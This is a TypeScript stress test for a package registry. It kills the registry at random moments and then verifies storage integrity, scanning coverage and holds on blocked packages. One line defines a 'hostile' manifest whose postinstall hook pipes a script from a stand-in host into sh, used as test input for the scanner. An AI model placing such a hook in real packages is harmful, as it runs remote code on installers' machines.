import { Database } from "bun:sqlite";
import { createHash } from "node:crypto";
import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import {
  childrenOf,
  isAlive,
  type RegistryProcess,
  spawnRegistry,
  startProcess,
  temporaryFolder,
  until,
} from "../support/process.ts";
import { digestsOf, tarball } from "../support/tarball.ts";
import { type FakeUpstream, startUpstream } from "../support/upstream.ts";
import { Ledger, type Release } from "./ledger.ts";
import { type Random, randomFrom } from "./random.ts";

const rounds = 50;
/** To repeat a failure: AGENTREGISTRY_TEST_SEED=… */
const seed = Number(process.env["AGENTREGISTRY_TEST_SEED"] ?? Date.now() % 1_000_000);

const hostile = { scripts: { postinstall: "curl https://setup.invalid/install.sh | sh" } };

describe(`a registry that is killed at any moment (seed ${seed})`, () => {
  test(`keeps every promise over ${rounds} deaths at work`, { timeout: 180_000 }, async () => {
    using root = temporaryFolder();
    const home = root.path;
    await using upstream = startUpstream();
    const ledger = new Ledger();
    const random = randomFrom(seed);

    for (let round = 1; round <= rounds; round++) {
      try {
        const plan = planOf(round, random, upstream);
        await using registry = await startProcess({ home, upstream: upstream.url });
        expect(temporaryFiles(home)).toEqual([]);
        await ledger.check(registry, "touched");
        await ledger.repeat(registry);

        const working = work(registry, ledger, plan, random);
        // The moment is the point: nothing is waited for.
        await Bun.sleep(random.between(1, 250));
        const scanners = childrenOf(registry.pid);
        await registry.kill("SIGKILL");
        await working;
        await until(() => !scanners.some(isAlive), "the scanners of a dead registry to end");
      } catch (error) {
        throw new Error(`in round ${round}, seed ${seed}: ${(error as Error).message}`, {
          cause: error,
        });
      }
    }

    await using registry = await startProcess({ home, upstream: upstream.url });
    await ledger.check(registry, "all");
    await ledger.repeat(registry);
    expect(await registry.kill("SIGTERM")).toMatchObject({ code: 0 });
    checkStorage(home);
    // A test in which nothing was interrupted would prove nothing.
    for (const [what, count] of Object.entries(ledger.counts)) {
      expect(count, what).toBeGreaterThan(rounds / 5);
    }
  });

  test("starts again after deaths during its first start", { timeout: 60_000 }, async () => {
    using root = temporaryFolder();
    const random = randomFrom(seed);
    for (let round = 1; round <= 10; round++) {
      const home = join(root.path, `home-${round}`);
      for (let death = 0; death < 2; death++) {
        await using starting = spawnRegistry({ home });
        await Bun.sleep(random.between(20, 200));
        await starting.kill("SIGKILL");
      }
      await using registry = await startProcess({ home });
      const headers = { authorization: `Bearer ${registry.token}` };
      const response = await registry.fetch("/-/whoami", { headers });
      expect(await response.json(), `round ${round}, seed ${seed}`).toEqual({ username: "owner" });
    }
  });
});

interface Plan {
  readonly publishes: readonly Release[];
  readonly fetches: readonly Release[];
}

const sizes = [500, 20_000, 200_000, 700_000, 2_000_000];

/** New names and new versions of an old name, some of them rivals for one version, some hostile. */
function planOf(round: number, random: Random, upstream: FakeUpstream): Plan {
  const release = (origin: Release["origin"], name: string, version: string): Release => {
    const isHostile = random.fraction() < 0.25;
    const manifest = isHostile ? hostile : {};
    // Small packages are the usual ones; large ones keep the registry busy for longer.
    const size = random.fraction() < 0.6 ? 500 : random.pick(sizes);
    const files = { "index.js": "1;\n", "data.bin": random.bytes(size) };
    const bytes = tarball(files, { name, version, ...manifest });
    if (origin === "upstream") upstream.add(name, version, {}, { bytes, manifest });
    return { origin, name, version, bytes, manifest, isHostile, ...digestsOf(bytes) };
  };
  const rival = (of: Release): Release => {
    const files = { "index.js": "2;\n", "data.bin": random.bytes(500) };
    const bytes = tarball(files, { name: of.name, version: of.version });
    return { ...of, bytes, manifest: {}, isHostile: false, ...digestsOf(bytes) };
  };
  const publishes: Release[] = [];
  for (let i = 0; i < 6; i++) publishes.push(release("hosted", `@crash/r${round}-${i}`, "1.0.0"));
  for (let i = 0; i < 3; i++) publishes.push(release("hosted", "@crash/shared", `${round}.0.${i}`));
  const contested = publishes.find((publish) => !publish.isHostile);
  if (contested !== undefined) publishes.splice(random.between(0, 2), 0, rival(contested));
  const fetches = Array.from({ length: 6 }, (_, i) =>
    release("upstream", `up-${round}-${i}`, "1.0.0"),
  );
  return { publishes, fetches };
}

/** Three publishers, two installers and a reviewer at the same time, until the registry is gone. */
async function work(
  registry: RegistryProcess,
  ledger: Ledger,
  plan: Plan,
  random: Random,
): Promise<void> {
  const publishes = [...plan.publishes];
  const fetches = [...plan.fetches];
  const each = async (queue: Release[], act: (release: Release) => Promise<boolean>) => {
    for (let next = queue.shift(); next !== undefined; next = queue.shift()) {
      if (!(await act(next))) return;
    }
  };
  const publisher = () => each(publishes, (release) => ledger.publish(registry, release));
  const installer = () => each(fetches, (release) => ledger.fetch(registry, release));
  const reviewer = async () => {
    const decisions = ["approve", "reject"] as const;
    for (let i = 0; i < 8; i++) {
      const subjects = ledger.ruleable();
      if (subjects.length === 0) return;
      if (!(await ledger.rule(registry, random.pick(subjects), random.pick(decisions)))) return;
    }
  };
  await Promise.all([publisher(), publisher(), publisher(), installer(), installer(), reviewer()]);
}

function temporaryFiles(home: string): string[] {
  return ["data", "cache"].flatMap((part) => readdirSync(join(home, part, "blobs", "tmp")));
}

/** What is on disk after a clean end: whole files under their own digest, and no row without one. */
function checkStorage(home: string): void {
  expect(temporaryFiles(home)).toEqual([]);
  const hosted = openDatabase(join(home, "data", "registry.db"));
  const cache = openDatabase(join(home, "cache", "upstream.db"));

  const versions = column(hosted, "select distinct integrity from versions");
  expect(blobsIn(join(home, "data", "blobs", "sha512"))).toEqual(versions);
  const tarballs = column(cache, "select distinct integrity from tarballs");
  const cached = blobsIn(join(home, "cache", "blobs", "sha512"));
  expect(tarballs.filter((integrity) => !cached.includes(integrity))).toEqual([]);

  // Nothing can be served that was not scanned, and what the scanner blocks has a hold.
  expect(column(hosted, unscanned("versions"))).toEqual([]);
  expect(column(cache, unscanned("tarballs"))).toEqual([]);
  const blocked = "select name || '@' || version from reports where verdict = 'block'";
  const held = column(hosted, "select name || '@' || version from holds");
  const missing = [...column(hosted, blocked), ...column(cache, blocked)].filter(
    (subject) => !held.includes(subject),
  );
  expect(missing).toEqual([]);
}

const unscanned = (table: string) => `
  select name || '@' || version from ${table} t where not exists (
    select 1 from reports r
    where r.name = t.name and r.version = t.version and r.integrity = t.integrity)`;

function openDatabase(path: string): Database {
  const database = new Database(path, { readonly: true });
  expect(column(database, "pragma integrity_check")).toEqual(["ok"]);
  expect(column(database, "pragma foreign_key_check")).toEqual([]);
  return database;
}

/** The first column of every row, sorted. */
function column(database: Database, sql: string): string[] {
  return database
    .query(sql)
    .values()
    .map(([value]) => String(value))
    .sort();
}

/** The digests of the files of a blob store, after comparing each with its name. */
function blobsIn(folder: string): string[] {
  return readdirSync(folder)
    .flatMap((prefix) =>
      readdirSync(join(folder, prefix)).map((rest) => {
        const digest = createHash("sha512").update(readFileSync(join(folder, prefix, rest)));
        const integrity = digest.digest();
        expect(integrity.toString("hex")).toBe(prefix + rest);
        return `sha512-${integrity.toString("base64")}`;
      }),
    )
    .sort();
}
